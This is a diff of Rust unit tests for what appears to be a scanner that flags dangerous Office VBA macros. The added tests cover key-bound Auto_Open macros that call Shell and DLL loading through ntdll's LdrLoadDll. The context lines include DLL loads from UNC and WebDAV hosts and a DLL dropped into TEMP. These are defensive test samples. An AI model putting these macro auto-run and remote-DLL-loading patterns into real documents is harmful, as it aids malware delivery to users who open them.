@@ -71,6 +71,14 @@ fn what_every_reader_does() {
     };
     assert!(run("Worksheet_SelectionChange(ByVal Target As Range)"));
     assert!(run("Workbook_BeforeSave(ByVal u As Boolean, c As Boolean)") && run("Workbook_BeforePrint(c As Boolean)"));
+    let key = |key: &str| {
+        let source = format!(
+            "Sub Auto_Open()\nApplication.OnKey \"{key}\", \"Go\"\nEnd Sub\nSub Go()\nShell \"cmd /c x\"\nEnd Sub"
+        );
+        stops_of(&[("M", ModuleKind::Standard, &source)])
+    };
+    assert!(key("{ENTER}") && key("a") && key("~"));
+    assert!(!key("^+R") && !key("{F5}") && !key("%{F8}"));
     for event in ["Worksheet_BeforeDoubleClick(ByVal t As Range, c As Boolean)", "CommandButton1_Click()"] {
         assert!(!run(event), "{event}");
     }
@@ -112,6 +120,9 @@ fn functions_of_the_system() {
         "LoadLibraryA \"\\\\198.51.100.9\\s\\x.dll\""
     ));
     assert!(stops_with(&["Function Go Lib \"\\\\a.example@SSL\\dav\\x.dll\" () As Long"], "Go"));
+    let load = "Function LdrLoadDll Lib \"ntdll\" (ByVal p As LongPtr, ByVal f As LongPtr, ByVal n As LongPtr, h As LongPtr) As Long";
+    assert!(stops_with(&[load], "LdrLoadDll 0, 0, StrPtr(\"C:\\Users\\Public\\x.dll\"), h"));
+    assert!(!stops_with(&[load], "LdrLoadDll 0, 0, StrPtr(ThisWorkbook.Path & \"\\x.dll\"), h"));
     let own = ["Function Go Lib \"own.dll\" () As Long"];
     assert!(stops_with(&own, "Open Environ(\"TEMP\") & \"\\own.dll\" For Binary As #1\nPut #1, , b\nClose\nGo"));
     assert!(stops_with(&["Function Go Lib \"Document1.asd\" () As Long"], "Go"));
